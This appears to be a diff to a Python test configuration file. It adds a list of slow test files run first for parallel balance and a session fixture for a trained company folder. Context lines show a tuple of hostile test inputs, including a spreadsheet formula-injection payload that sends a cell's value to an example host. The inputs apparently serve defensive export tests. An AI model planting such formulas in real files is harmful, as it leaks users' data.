@@ -53,6 +53,29 @@ def make_listing() -> Callable[..., Any]:
     return worklists.listing
 
 
+DEAREST = (
+    "tests/system/test_end_to_end.py",  # one process makes the shop
+    "tests/features/test_spark.py",  # the other one has no use for it meanwhile
+    "tests/system/test_telecom.py",
+    "tests/retention/commands/test_score.py",
+    "tests/faults/test_privacy.py",
+    "tests/features/test_future.py",
+    "tests/faults/test_models.py",
+    "tests/faults/test_guards.py",
+    "tests/faults/test_services.py",
+    "tests/retention/tracking/test_server.py",
+    "tests/repository/test_extending.py",
+    "tests/system/test_two_cycles.py",
+)
+"""The files that take longest, in the order in which two processes are to start them."""
+
+
+def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
+    """DEAREST first: small files at the end keep both processes busy to the last."""
+    place = {name: number for number, name in enumerate(DEAREST)}
+    items.sort(key=lambda item: place.get(item.location[0], len(place)))
+
+
 HOSTILE = (
     '=HYPERLINK("http://example.org/?"&A1,"click")',
     "+1",
@@ -116,6 +139,14 @@ def shop(tmp_path_factory: pytest.TempPathFactory) -> company.Checkout:
         if not log.exists():
             atomic.write_text(log, company.make_reproduced(shared / "shop").log)
     return company.Checkout(shared / "shop", log.read_text(encoding="utf-8")).copy(folder)
+
+
+@pytest.fixture(scope="session")
+def trained_company(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The folder of a company on which `train` has run with quick models. Copy it to change it."""
+    from tests.support import training_company  # it imports every model
+
+    return training_company.train_once(tmp_path_factory.mktemp("trained"))
 
 
 @pytest.fixture(scope="session")
